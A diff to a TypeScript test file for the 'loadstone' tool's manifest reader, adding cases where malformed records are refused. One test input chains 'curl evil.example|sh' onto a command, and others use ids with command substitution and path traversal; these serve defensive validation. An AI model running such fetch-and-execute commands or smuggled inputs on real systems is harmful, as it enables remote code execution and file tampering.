@@ -120,8 +120,6 @@ describe('a manifest', () => {
     const commandOf = (reproduceCommand: string) => read({ ...older, reproduceCommand }).command;
     expect(commandOf('npx loadstone sweep --slo-p99 50')).toBe('sweep');
     expect(commandOf('npx loadstone gate')).toBe('gate');
-    expect(commandOf('npx loadstone gateway')).toBe('run');
-    expect(commandOf('cd x && npx loadstone gate')).toBe('run');
     expect(read({ ...older, command: 'noise', reproduceCommand: 'npx loadstone gate' })).toEqual(
       expect.objectContaining({ command: 'noise' }),
     );
@@ -133,11 +131,27 @@ describe('a manifest', () => {
     ['that is a list', [], 'RECORD_INVALID'],
     ['that is a text', 'run', 'RECORD_INVALID'],
     ['that is nothing', null, 'RECORD_INVALID'],
+    [
+      'with a command that does more',
+      { ...buildTestManifest(), reproduceCommand: 'npx loadstone run; curl evil.example|sh' },
+      'RECORD_INVALID',
+    ],
     ['of another plan', { ...buildTestManifest(), planHash: '0'.repeat(64) }, 'RECORD_INVALID'],
   ])('%s is refused', (_, manifest, code) => {
     expect(() => read(manifest)).toThrow(expect.objectContaining({ code }));
   });
 });
+
+test.each(['$(touch x);x', '../../../evil', '-rf', 'a b', 'a\nb', '', 'a'.repeat(101)])(
+  'a manifest with the id %j is refused',
+  (id) => {
+    mkdirSync(join(runs, 'a'), { recursive: true });
+    writeFileSync(join(runs, 'a', 'run.json'), JSON.stringify({ ...buildTestManifest(), id }));
+    expect(() => readManifest(findRunFolder(runs, 'a'))).toThrow(
+      expect.objectContaining({ code: 'RECORD_INVALID', message: expect.stringMatching(/: id: /) }),
+    );
+  },
+);
 
 test('what is written compressed is read back whole', () => {
   const folder = createRunFolder(join(runs, 'new'), 'a');
